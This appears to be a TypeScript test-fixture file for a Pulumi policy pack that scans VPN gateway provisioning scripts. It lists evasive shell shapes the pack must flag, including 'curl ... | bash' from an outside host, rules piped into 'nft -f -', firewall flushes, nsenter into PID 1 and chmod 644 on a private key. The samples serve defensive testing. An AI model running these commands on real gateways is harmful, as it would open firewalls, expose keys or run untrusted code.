import * as pulumi from "@pulumi/pulumi";
import * as command from "@pulumi/command";
import { ForeignFile, foreignProgram, foreignScript, GOOD_FILES, HOST_KEY, MASK_STARTER, withFile } from "../helpers/stacks";

/**
 * Hand-written gateway scripts in another team's program, each hiding a violation in a shape the pack once let
 * through. Each must give a mandatory finding: gateway-commands-readable where the shape cannot be read, or the
 * violated policy itself where the pack now reads (evaluates) the shape.
 */
export interface Shape {
  readonly name: string;
  readonly program: () => void;
  readonly policy: string;
  /** A part of the finding's message. */
  readonly says: RegExp;
}

const SWANCTL = "/etc/swanctl/swanctl.conf";
const NFT = "/etc/nftables.conf";
/** A connection that answers IKE on every address (ipsec-binds-floating-ip). */
const EVIL_CONN = [
  "connections {",
  "    evil {",
  "        local_addrs = %any",
  "        children {",
  "            evil {",
  "                local_ts = 10.0.0.0/16",
  "            }",
  "        }",
  "    }",
  "}",
  "",
].join("\n");
const heredoc = (path: string, body: string, delim = "'EOF'"): string => `cat > ${path} <<${delim}\n${body.replace(/\n$/, "")}\n${delim.replace(/'/g, "")}`;

/** The good foreign stack with these lines added before `swanctl --load-all`, and optionally its files changed. */
const adding = (lines: readonly string[], files: readonly ForeignFile[] = GOOD_FILES, stdin?: string) =>
  foreignProgram({ files, extra: [MASK_STARTER], script: foreignScript({ files, extra: [MASK_STARTER, ...lines] }), floatingIp: { assigned: true }, stdin });
const withSwanctl = (change: (c: string) => string) => withFile(SWANCTL, change);
const withNft = (change: (c: string) => string) => withFile(NFT, change);
const forwardRule = (rule: string) =>
  withNft((c) =>
    c.replace(
      "        ct state established,related accept\n        meta secpath",
      `        ${rule}\n        ct state established,related accept\n        meta secpath`,
    ),
  );

const READABLE = "gateway-commands-readable";

/** A shape's name as a command-line word: "sed -i after the here-document" → "sed-i-after-the-here-document". */
export const slug = (name: string): string =>
  name
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, "-")
    .replace(/^-|-$/g, "");

export const SHAPES: readonly Shape[] = [
  {
    name: "swanctl include of a file no resource writes",
    program: adding(
      [],
      withSwanctl((c) => `${c}include /etc/swanctl/extra.conf\n`),
    ),
    policy: READABLE,
    says: /includes \/etc\/swanctl\/extra\.conf, which is a file no resource of this stack writes/,
  },
  {
    name: "swanctl include glob matching no written file",
    program: adding(
      [],
      withSwanctl((c) => `${c}include extra/*.conf\n`),
    ),
    policy: READABLE,
    says: /includes \/etc\/swanctl\/extra\/\*\.conf, which matches no file this stack writes/,
  },
  {
    name: "swanctl include glob resolved to a written file (evaluated)",
    program: adding(
      [heredoc("/etc/swanctl/extra/evil.conf", EVIL_CONN)],
      withSwanctl((c) => `${c}include extra/*.conf\n`),
    ),
    policy: "ipsec-binds-floating-ip",
    says: /\/etc\/swanctl\/extra\/evil\.conf: connection "evil": local_addrs is %any/,
  },
  {
    name: "sed -i after the here-document",
    program: adding([`sed -i 's/local_addrs = 198.51.100.139/local_addrs = %any/' ${SWANCTL}`]),
    policy: READABLE,
    says: /create, line \d+: `sed` edits in place \/etc\/swanctl\/swanctl\.conf/,
  },
  {
    name: "file written by printf",
    program: adding(["printf 'connections { evil { local_addrs = %%any } }\\n' > /etc/swanctl/conf.d/evil.conf"]),
    policy: READABLE,
    says: /`printf` writes \/etc\/swanctl\/conf\.d\/evil\.conf with text the pack cannot read; it touches the gateway's IPsec/,
  },
  {
    name: "file written by base64 -d",
    program: adding([`echo ${Buffer.from(EVIL_CONN).toString("base64")} | base64 -d > /etc/swanctl/conf.d/evil.conf`]),
    policy: READABLE,
    says: /`base64` writes \/etc\/swanctl\/conf\.d\/evil\.conf/,
  },
  {
    name: "file copied with cp from a file the stack does not write",
    program: adding(["cp /root/evil.conf /etc/swanctl/conf.d/evil.conf"]),
    policy: READABLE,
    says: /`cp` puts \/root\/evil\.conf at \/etc\/swanctl\/conf\.d\/evil\.conf/,
  },
  {
    name: "cp of a here-document written elsewhere (evaluated)",
    program: adding([heredoc("/root/evil.conf", EVIL_CONN), "cp /root/evil.conf /etc/swanctl/conf.d/"]),
    policy: "ipsec-binds-floating-ip",
    says: /\/etc\/swanctl\/conf\.d\/evil\.conf: connection "evil"/,
  },
  {
    name: "a shell variable as the path",
    program: adding(["F=/etc/swanctl/conf.d/evil.conf", heredoc('"$F"', EVIL_CONN)]),
    policy: READABLE,
    says: /`cat` writes to a path built at run time \("\$F"\)/,
  },
  {
    name: "two here-documents on one line (evaluated)",
    program: adding([`cat > /etc/swanctl/conf.d/a.conf <<'A'; cat > /etc/swanctl/conf.d/b.conf <<'B'\n# nothing\nA\n${EVIL_CONN}B`]),
    policy: "ipsec-binds-floating-ip",
    says: /\/etc\/swanctl\/conf\.d\/b\.conf: connection "evil": local_addrs is %any/,
  },
  {
    name: "unquoted here-document with command substitution",
    program: adding([heredoc("/etc/swanctl/conf.d/evil.conf", EVIL_CONN.replace("%any", "$(curl -s http://203.0.113.9/addr)"), "EOF")]),
    policy: READABLE,
    says: /an unquoted here-document whose text is expanded at run time writes \/etc\/swanctl\/conf\.d\/evil\.conf/,
  },
  {
    name: "swanctl --load-conns --file of a file no resource writes",
    program: adding(["swanctl --load-conns --file /etc/swanctl/other.conf"]),
    policy: READABLE,
    says: /`swanctl --file` loads \/etc\/swanctl\/other\.conf, which no resource of this stack writes/,
  },
  {
    name: "swanctl --file of a written file (evaluated)",
    program: adding([heredoc("/root/other.conf", EVIL_CONN), "swanctl --load-conns --file /root/other.conf"]),
    policy: "ipsec-binds-floating-ip",
    says: /\/root\/other\.conf: connection "evil": local_addrs is %any/,
  },
  {
    name: "nft named set defined after the chain (evaluated)",
    program: adding(
      [],
      withNft((c) =>
        c
          .replace("meta secpath exists iifname $wan ip saddr 10.3.0.0/24", "iifname $wan ip saddr @pools")
          .replace(/}\n$/, "    set pools {\n        type ipv4_addr; flags interval\n        elements = { 10.3.0.0/24 }\n    }\n}\n"),
      ),
    ),
    policy: "ipsec-forward-decrypted-only",
    says: /forward rule "iifname eth0 ip saddr @pools oifname eth0 ct state new counter accept" accepts traffic from pool "home-pool"/,
  },
  {
    name: "nft verdict map (evaluated)",
    program: adding([], forwardRule("ip saddr vmap { 10.0.0.0/16 : continue, 10.3.0.0/24 : accept }")),
    policy: "ipsec-forward-decrypted-only",
    says: /forward rule "ip saddr 10\.3\.0\.0\/24 accept" accepts traffic from pool "home-pool"/,
  },
  {
    name: "nft named verdict map defined after the chain (evaluated)",
    program: adding(
      [],
      withNft((c) =>
        c
          .replace(
            "        ct state established,related accept\n        meta secpath",
            "        ip saddr vmap @verdicts\n        ct state established,related accept\n        meta secpath",
          )
          .replace(/}\n$/, "    map verdicts {\n        type ipv4_addr : verdict; flags interval\n        elements = { 10.3.0.0/24 : accept }\n    }\n}\n"),
      ),
    ),
    policy: "ipsec-forward-decrypted-only",
    says: /forward rule "ip saddr 10\.3\.0\.0\/24 accept" accepts traffic from pool "home-pool"/,
  },
  {
    name: "nft verdict map no file defines",
    program: adding([], forwardRule("ip saddr vmap @verdicts")),
    policy: READABLE,
    says: /uses a verdict map, which the reader cannot evaluate/,
  },
  {
    name: "nft concatenation (evaluated)",
    program: adding([], forwardRule('ip saddr . iifname { 10.3.0.0/24 . "eth0" } accept')),
    policy: "ipsec-forward-decrypted-only",
    says: /forward rule "ip saddr 10\.3\.0\.0\/24 iifname eth0 accept" accepts traffic from pool "home-pool"/,
  },
  {
    name: "nft negated concatenation",
    program: adding([], forwardRule('ip saddr . iifname != { 10.9.0.0/24 . "eth0" } accept')),
    policy: READABLE,
    says: /uses a concatenation \(\.\)/,
  },
  {
    name: "nft mask (evaluated)",
    program: adding([], forwardRule("ip saddr & 255.255.255.0 == 10.3.0.0 accept")),
    policy: "ipsec-forward-decrypted-only",
    says: /forward rule "ip saddr == 10\.3\.0\.0\/24 accept" accepts traffic from pool "home-pool"/,
  },
  {
    name: "nft mask that is not a prefix",
    program: adding([], forwardRule("ip saddr & 255.0.255.0 == 10.0.3.0 accept")),
    policy: READABLE,
    says: /uses a bitwise mask \(&\)/,
  },
  {
    name: "nft include of files no resource writes",
    program: adding(
      [],
      withNft((c) => `${c}include "/etc/nftables.d/*.nft"\n`),
    ),
    policy: READABLE,
    says: /include "\/etc\/nftables\.d\/\*\.nft" names files the reader was not given/,
  },
  {
    name: "nft include of a written file (evaluated)",
    program: adding(
      [heredoc("/etc/nftables.d/fwd.nft", "add rule inet filter forward ip saddr 10.3.0.0/24 accept\n")],
      withNft((c) => `${c}include "/etc/nftables.d/*.nft"\n`),
    ),
    policy: "ipsec-forward-decrypted-only",
    says: /forward rule "ip saddr 10\.3\.0\.0\/24 accept" accepts traffic from pool "home-pool"/,
  },
  {
    name: "nft flush chain after a drop, then an accept (evaluated)",
    program: adding(
      [],
      withFile(
        NFT,
        (c) => `${c}flush chain inet filter forward\nadd rule inet filter forward ip saddr 10.3.0.0/24 accept\n`,
        forwardRule("ip saddr 10.3.0.0/24 meta ipsec missing drop"),
      ),
    ),
    policy: "ipsec-forward-decrypted-only",
    says: /forward rule "ip saddr 10\.3\.0\.0\/24 accept" accepts traffic from pool "home-pool"/,
  },
  {
    name: "nft delete rule by handle",
    program: adding(
      [],
      withNft((c) => `${c}delete rule inet filter forward handle 4\n`),
    ),
    policy: READABLE,
    says: /`delete rule inet filter forward handle 4`, which the reader cannot evaluate/,
  },
  {
    name: "a second ruleset file that flushes the first",
    program: adding([`nft -f ${NFT}`, heredoc("/root/open.nft", "flush ruleset\n"), "nft -f /root/open.nft"]),
    policy: READABLE,
    says: /flushes or deletes what another ruleset file loaded/,
  },
  {
    name: "nft -f of a file no resource writes",
    program: adding(["nft -f /etc/nftables-extra.conf"]),
    policy: READABLE,
    says: /`nft -f` loads \/etc\/nftables-extra\.conf, which no resource of this stack writes/,
  },
  {
    name: "nft flush ruleset after the file is loaded",
    program: adding([`nft -f ${NFT}`, "nft flush ruleset"]),
    policy: READABLE,
    says: /`nft flush` changes the live ruleset/,
  },
  {
    name: "nft add rule on the live ruleset",
    program: adding(["nft add rule inet filter forward ip saddr 10.3.0.0/24 accept"]),
    policy: READABLE,
    says: /`nft add` changes the live ruleset/,
  },
  {
    name: "nft -f - from a pipe",
    program: adding(["curl -s http://203.0.113.9/rules | nft -f -"]),
    policy: READABLE,
    says: /`nft -f -` loads a ruleset from its input/,
  },
  {
    name: "iptables beside nftables",
    program: adding(["iptables -A FORWARD -s 10.3.0.0/24 -j ACCEPT"]),
    policy: READABLE,
    says: /`iptables` changes the live firewall/,
  },
  { name: "a live route", program: adding(["ip route add 10.3.0.0/24 via 10.8.0.10"]), policy: READABLE, says: /`ip route add` changes the live routing/ },
  { name: "a live xfrm policy", program: adding(["ip xfrm policy flush"]), policy: READABLE, says: /`ip xfrm flush` changes the live IPsec state/ },
  {
    name: "wg set on the live interface",
    program: adding(["wg set wg0 listen-port 4500"]),
    policy: READABLE,
    says: /`wg set` changes the live WireGuard interface/,
  },
  {
    name: "a wg-quick PostUp hook",
    program: adding(
      [],
      withFile("/etc/wireguard/wg0.conf", (c) => c.replace("PostUp = ", "PostUp = nft flush ruleset; ")),
    ),
    policy: READABLE,
    says: /\/etc\/wireguard\/wg0\.conf PostUp: `nft flush` changes the live ruleset/,
  },
  {
    name: "a script piped into bash",
    program: adding(["curl -s http://203.0.113.9/setup.sh | bash"]),
    policy: READABLE,
    says: /runs a shell script read from its input/,
  },
  {
    name: "stdin that is not a stage2 payload",
    program: adding(["bash -s"], GOOD_FILES, "nft flush ruleset\n"),
    policy: READABLE,
    says: /stdin: stdin carries text that is not a stage2 payload/,
  },
  {
    name: "a script the stack does not write",
    program: adding(["bash /root/setup.sh"]),
    policy: READABLE,
    says: /runs \/root\/setup\.sh, a script no resource of this stack writes/,
  },
  { name: "eval of a variable", program: adding(['eval "$SETUP"']), policy: READABLE, says: /`eval` runs a command built at run time/ },
  { name: "systemctl stop nftables", program: adding(["systemctl stop nftables"]), policy: READABLE, says: /`systemctl stop nftables` takes down a service/ },
  {
    name: "tee -a onto the host's own file",
    program: adding(
      [`tee -a ${SWANCTL} <<'EOF'\n${EVIL_CONN}EOF`],
      GOOD_FILES.filter((f) => f.path !== SWANCTL),
    ),
    policy: READABLE,
    says: /`tee -a` appends to \/etc\/swanctl\/swanctl\.conf/,
  },
  {
    name: "SWANCTL_DIR pointing elsewhere",
    program: adding(["SWANCTL_DIR=/root/swanctl swanctl --load-all"]),
    policy: READABLE,
    says: /loads with SWANCTL_DIR or STRONGSWAN_CONF set/,
  },
  {
    name: "dd of= onto a config file",
    program: adding(["dd if=/root/evil.conf of=/etc/swanctl/conf.d/evil.conf"]),
    policy: READABLE,
    says: /`dd` is given \/etc\/swanctl\/conf\.d\/evil\.conf/,
  },
  {
    name: "chmod that opens a private key",
    program: adding(["chmod 644 /etc/swanctl/private/gw.pem"]),
    policy: READABLE,
    says: /`chmod 644` may open \/etc\/swanctl\/private\/gw\.pem to other users/,
  },
  {
    name: "nsenter into another namespace",
    program: adding(["nsenter -t 1 -n nft flush ruleset"]),
    policy: READABLE,
    says: /`nsenter` runs a command in another namespace/,
  },
  {
    name: "a CopyToRemote asset into swanctl's directory",
    program: copyToRemote("/etc/swanctl/conf.d/evil.conf"),
    policy: READABLE,
    says: /remotePath: copies an asset or archive to \/etc\/swanctl\/conf\.d\/evil\.conf/,
  },
];

/** Readable forms of the same work: they must pass with no mandatory finding. */
export const BENIGN: readonly { readonly name: string; readonly program: () => void }[] = [
  {
    name: "quoted here-documents, nft -f of the written ruleset, swanctl --load-all, reloads",
    program: adding([`nft -f ${NFT}`, "systemctl reload strongswan", "wg-quick up wg0", "sysctl -w net.ipv4.ip_forward=1"]),
  },
  {
    name: "tee and install from here-documents",
    program: adding([
      `tee /etc/swanctl/conf.d/empty.conf <<'EOF'\n# nothing\nEOF`,
      "install -m 0644 /dev/stdin /etc/swanctl/conf.d/also.conf <<'EOF'\n# nothing\nEOF",
    ]),
  },
  { name: "an unquoted here-document with only escaped dollars", program: unquotedNft() },
  {
    name: "an include glob that matches only written files",
    program: adding(
      [heredoc("/etc/swanctl/conf.d/more.conf", "# more\n")],
      withSwanctl((c) => `${c}include conf.d/*.conf\n`),
    ),
  },
  {
    name: "a copy of a written file, a floating IP added live, a live route into wg0",
    program: adding([
      heredoc("/root/more.conf", "# more\n"),
      "cp /root/more.conf /etc/swanctl/conf.d/more.conf",
      "ip -4 addr replace 198.51.100.139/32 dev eth0",
      "ip route replace 10.8.0.10/32 dev wg0",
    ]),
  },
];

function unquotedNft(): () => void {
  const good = GOOD_FILES.find((f) => f.path === NFT)!.content.replace(/\$wan/g, "\\$wan");
  const files = GOOD_FILES.filter((f) => f.path !== NFT);
  return foreignProgram({ files, script: foreignScript({ files, extra: [MASK_STARTER, `cat > ${NFT} <<EOF\n${good}EOF`] }), floatingIp: { assigned: true } });
}

function copyToRemote(remotePath: string): () => void {
  return () => {
    adding([])();
    const connection = { host: "198.51.100.10", user: "root", privateKey: pulumi.secret("k"), hostKey: HOST_KEY };
    new command.remote.CopyToRemote("vpn-extra", { connection, source: new pulumi.asset.StringAsset(EVIL_CONN), remotePath });
  };
}
